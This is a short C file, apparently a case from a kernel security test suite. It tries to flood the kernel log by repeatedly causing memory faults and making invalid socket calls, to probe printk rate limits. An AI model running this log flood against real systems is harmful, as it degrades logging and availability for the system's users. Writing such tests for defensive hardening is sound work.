/* Has the kernel write to its log without end, by faults and refusals of its own (printk limits). */
#include "common/attack.h"

static void fault(void) {
    volatile int *volatile nowhere = (int *)8;
    *nowhere = 1;
}

static void attempt(void) {
    for (int n = 0; n < 100; n++) {
        apart(fault, 2);
        int fd = socket(AF_INET, 10, 0x0300);
        close(fd);
    }
    hold();
}
